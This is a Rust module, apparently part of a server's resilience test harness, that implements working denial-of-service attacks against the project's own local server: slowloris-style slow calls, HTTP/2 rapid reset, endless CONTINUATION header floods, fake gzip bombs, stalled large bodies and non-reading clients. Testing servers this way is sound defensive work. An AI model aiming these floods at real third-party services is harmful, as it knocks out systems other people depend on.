//! The attacks, each on a thread with a runtime of its own until it is stopped.

use std::fmt;
use std::io::{Read as _, Write as _};
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::{Context as _, anyhow};
use clap::ValueEnum;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::oneshot;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::frames::{self, Kind};
use crate::machine::{Address, Server};
use crate::workflow::Api;

/// What somebody does to hurt.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(super) enum Attack {
    /// 10,000 connections that say nothing.
    Idle,
    /// 1,000 connections with a call that arrives a byte a second.
    Slow,
    /// 200 connections that reset every call.
    Resets,
    /// 50 connections that send calls and read nothing.
    NoRead,
    /// 8 connections that open and reset streams as fast as they can.
    RapidReset,
    /// 8 connections with headers without an end.
    Headers,
    /// 50 connections with messages that say they are compressed.
    Bomb,
    /// A request of 4 MiB of descriptors, then ten a second.
    Large,
    /// 10,000 unknown domains of 100 kB.
    Domains,
    /// 60 bodies of 4 MiB for `/json` that stop.
    Bodies,
    /// 40 readers of a large workflow that read nothing.
    Readers,
}

impl fmt::Display for Attack {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        let value = self.to_possible_value();
        formatter.write_str(value.as_ref().map_or("", |value| value.get_name()))
    }
}

/// Where to attack, and how hard.
#[derive(Clone)]
pub(super) struct Target {
    grpc: SocketAddr,
    http: SocketAddr,
    api: SocketAddr,
    /// The path of a workflow with large params.
    workflow: String,
    scale: f64,
    done: Arc<AtomicU64>,
}

/// An attack in progress.
pub(super) struct Attacking {
    stop: oneshot::Sender<()>,
    thread: JoinHandle<anyhow::Result<()>>,
    done: Arc<AtomicU64>,
    unit: &'static str,
}

impl Attacking {
    /// Ends it, and says what it got done.
    pub(super) fn stop(self) -> anyhow::Result<String> {
        // It may have ended by itself.
        let _ = self.stop.send(());
        self.thread.join().map_err(|_| anyhow!("the attacker panicked"))??;
        Ok(format!("{} {}", self.done.load(Relaxed), self.unit))
    }
}

impl Target {
    /// Prepares what attacks need: a workflow of 7 MiB.
    pub(super) async fn new(server: &Server, scale: f64) -> anyhow::Result<Self> {
        let Address::Tcp { port, .. } = server.grpc() else { return Err(anyhow!("the server is on a port")) };
        let text = "x".repeat(240 * 1024);
        let job = |at: usize| format!(r#"{{"name":"j{at}","handler":"H","params":{{"x":"{text}"}}}}"#);
        let jobs: Vec<String> = (0..30).map(job).collect();
        let body = format!(r#"{{"name":"large","jobs":[{}]}}"#, jobs.join(","));
        let answer = Api::connect(server.api()).await?.post("/v1/workflows", body).await?;
        let answer: serde_json::Value = serde_json::from_slice(&answer)?;
        let id = answer["id"].as_str().context("a workflow has an id")?;
        Ok(Self {
            grpc: ([127, 0, 0, 1], port).into(),
            http: server.http(),
            api: server.api(),
            workflow: format!("/v1/workflows/{id}?view=full"),
            scale,
            done: Arc::default(),
        })
    }

    fn number(&self, number: usize) -> usize {
        ((number as f64 * self.scale) as usize).max(1)
    }

    fn count(&self) {
        self.done.fetch_add(1, Relaxed);
    }
}

impl Attack {
    pub(super) fn all() -> &'static [Self] {
        Self::value_variants()
    }

    /// Starts it.
    pub(super) fn start(self, target: Target) -> Attacking {
        let (stop, stopped) = oneshot::channel();
        let done = target.done.clone();
        let main = move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
            runtime.block_on(async {
                tokio::select! {
                    () = self.go_on(target) => {}
                    _ = stopped => {}
                }
            });
            Ok(())
        };
        Attacking { stop, thread: std::thread::spawn(main), done, unit: self.unit() }
    }

    const fn unit(self) -> &'static str {
        match self {
            Self::Idle | Self::Slow => "connections",
            Self::RapidReset | Self::Resets => "resets",
            Self::Headers => "frames",
            Self::NoRead | Self::Bomb | Self::Large | Self::Domains => "calls",
            Self::Bodies => "bodies",
            Self::Readers => "requests",
        }
    }

    /// Attacks until it is dropped.
    async fn go_on(self, target: Target) {
        let mut tasks = JoinSet::new();
        let connections = match self {
            Self::Idle => 10_000,
            Self::Slow => 1_000,
            Self::Resets => 200,
            Self::NoRead | Self::Bomb => 50,
            Self::RapidReset | Self::Headers => 8,
            Self::Large | Self::Domains => 1,
            Self::Bodies => 60,
            Self::Readers => 40,
        };
        for _ in 0..target.number(connections) {
            tasks.spawn(again(self, target.clone()));
            // Connections come as fast as the server takes them, and not faster than its backlog.
            tokio::task::yield_now().await;
        }
        while tasks.join_next().await.is_some() {}
    }

    /// One connection, to its end.
    async fn once(self, target: &Target) -> std::io::Result<()> {
        match self {
            Self::Idle => idle(target).await,
            Self::Slow => slow(target).await,
            Self::Resets => resets(target).await,
            Self::NoRead => no_read(target).await,
            Self::RapidReset => flood(target, |number| frames::reset(2 * number + 1)).await,
            Self::Headers => {
                let field = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x1f][..], &[b'y'; 4096]].concat();
                flood(target, |number| match number {
                    0 => frames::frame(Kind::Headers, 0, 1, frames::SHORT_HEAD),
                    _ => frames::frame(Kind::Continuation, 0, 1, &field),
                })
                .await
            }
            Self::Bomb => calls(target, Some("gzip"), Duration::ZERO, |_| frames::message(true, &[0; 4096])).await,
            Self::Large => {
                let body = frames::message(false, &frames::request("bench", 220_000));
                calls(target, None, Duration::from_millis(100), |_| body.clone()).await
            }
            Self::Domains => {
                let long = "d".repeat(100_000);
                calls(target, None, Duration::ZERO, |number| {
                    frames::message(false, &frames::request(&format!("{number}{long}"), 1))
                })
                .await
            }
            Self::Bodies => stop_in_body(target).await,
            Self::Readers => read_nothing(target).await,
        }
    }
}

/// One connection after another.
async fn again(attack: Attack, target: Target) {
    loop {
        // The server may refuse it, and end it whenever it likes.
        let _ = attack.once(&target).await;
        sleep(Duration::from_millis(50)).await;
    }
}

async fn connect(address: SocketAddr) -> std::io::Result<TcpStream> {
    let stream = TcpStream::connect(address).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

async fn until_closed(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut dropped = vec![0; 16 * 1024];
    while stream.read(&mut dropped).await? > 0 {}
    Ok(())
}

async fn idle(target: &Target) -> std::io::Result<()> {
    let mut stream = connect(target.grpc).await?;
    target.count();
    until_closed(&mut stream).await
}

async fn slow(target: &Target) -> std::io::Result<()> {
    let mut stream = connect(target.grpc).await?;
    target.count();
    stream.write_all(frames::PREFACE).await?;
    stream.write_all(&frames::headers(1, None)).await?;
    let body = frames::message(false, &frames::request("bench", 1));
    for byte in body {
        stream.write_all(&frames::frame(Kind::Data, 0, 1, &[byte])).await?;
        sleep(Duration::from_secs(1)).await;
    }
    until_closed(&mut stream).await
}

/// Calls that are reset as soon as the server has begun with them.
async fn resets(target: &Target) -> std::io::Result<()> {
    let mut stream = connect(target.grpc).await?;
    stream.write_all(frames::PREFACE).await?;
    let body = frames::message(false, &frames::request("bench", 1));
    let mut dropped = vec![0; 16 * 1024];
    for number in 0.. {
        let id = 2 * number + 1;
        stream.write_all(&[frames::headers(id, None), frames::end(id, &body)].concat()).await?;
        // Long enough to be read, and for most too short to be answered.
        tokio::task::yield_now().await;
        stream.write_all(&frames::frame(Kind::Reset, 0, id, &8_u32.to_be_bytes())).await?;
        target.count();
        while let Ok(length) = stream.try_read(&mut dropped) {
            if length == 0 {
                return Ok(());
            }
        }
        sleep(Duration::from_millis(20)).await;
    }
    Ok(())
}

async fn no_read(target: &Target) -> std::io::Result<()> {
    let mut stream = connect(target.grpc).await?;
    stream.write_all(frames::PREFACE).await?;
    let body = frames::message(false, &frames::request("bench", 50));
    for number in 0..100_000 {
        let id = 2 * number + 1;
        stream.write_all(&[frames::headers(id, None), frames::end(id, &body)].concat()).await?;
        target.count();
        sleep(Duration::from_millis(5)).await;
    }
    Ok(())
}

/// Frames without a pause.
async fn flood(target: &Target, next: impl Fn(u32) -> Vec<u8>) -> std::io::Result<()> {
    let mut stream = connect(target.grpc).await?;
    stream.write_all(frames::PREFACE).await?;
    for number in 0..1_000_000_000 {
        stream.write_all(&next(number)).await?;
        target.count();
    }
    Ok(())
}

/// Calls one after the other, each as a whole.
async fn calls(
    target: &Target,
    encoding: Option<&str>,
    pause: Duration,
    body: impl Fn(u64) -> Vec<u8>,
) -> std::io::Result<()> {
    let socket = connect(target.grpc).await?;
    let mut builder = h2::client::Builder::new();
    builder.max_frame_size(16_384);
    let failed = |error: h2::Error| std::io::Error::other(error);
    let (mut sender, connection) = builder.handshake::<_, bytes::Bytes>(socket).await.map_err(failed)?;
    let mut tasks = JoinSet::new();
    tasks.spawn(async move { drop(connection.await) });
    loop {
        sender = sender.ready().await.map_err(failed)?;
        let mut request = http::Request::post(format!("http://{}{}", target.grpc, crate::load::PATH))
            .header("content-type", "application/grpc")
            .header("te", "trailers");
        if let Some(encoding) = encoding {
            request = request.header("grpc-encoding", encoding);
        }
        let request = request.body(()).map_err(std::io::Error::other)?;
        let (answer, mut stream) = sender.send_request(request, false).map_err(failed)?;
        let number = target.done.fetch_add(1, Relaxed);
        stream.send_data(body(number).into(), true).map_err(failed)?;
        // It may be refused, and then the next one is sent.
        if let Ok(answer) = answer.await {
            let mut body = answer.into_body();
            while let Some(Ok(data)) = body.data().await {
                let _ = body.flow_control().release_capacity(data.len());
            }
        }
        sleep(pause).await;
    }
}

async fn stop_in_body(target: &Target) -> std::io::Result<()> {
    const LENGTH: usize = 4 << 20;
    let mut stream = connect(target.http).await?;
    let head = format!("POST /json HTTP/1.1\r\nhost: x\r\ncontent-length: {LENGTH}\r\n\r\n");
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&vec![b' '; LENGTH - 1]).await?;
    target.count();
    until_closed(&mut stream).await
}

async fn read_nothing(target: &Target) -> std::io::Result<()> {
    let mut stream = connect(target.api).await?;
    let request = format!("GET {} HTTP/1.1\r\nhost: {}\r\n\r\n", target.workflow, target.api);
    stream.write_all(request.as_bytes()).await?;
    target.count();
    // Nothing is read, so only an attempt to write shows that the server has gone.
    loop {
        sleep(Duration::from_secs(1)).await;
        stream.write_all(b" ").await?;
    }
}

/// The body of a page.
pub(super) fn get(address: SocketAddr, path: &str) -> anyhow::Result<String> {
    let mut stream = std::net::TcpStream::connect(address)?;
    stream.write_all(format!("GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n").as_bytes())?;
    let mut text = String::new();
    stream.read_to_string(&mut text)?;
    let (_, body) = text.split_once("\r\n\r\n").context("the page has no body")?;
    Ok(body.to_owned())
}
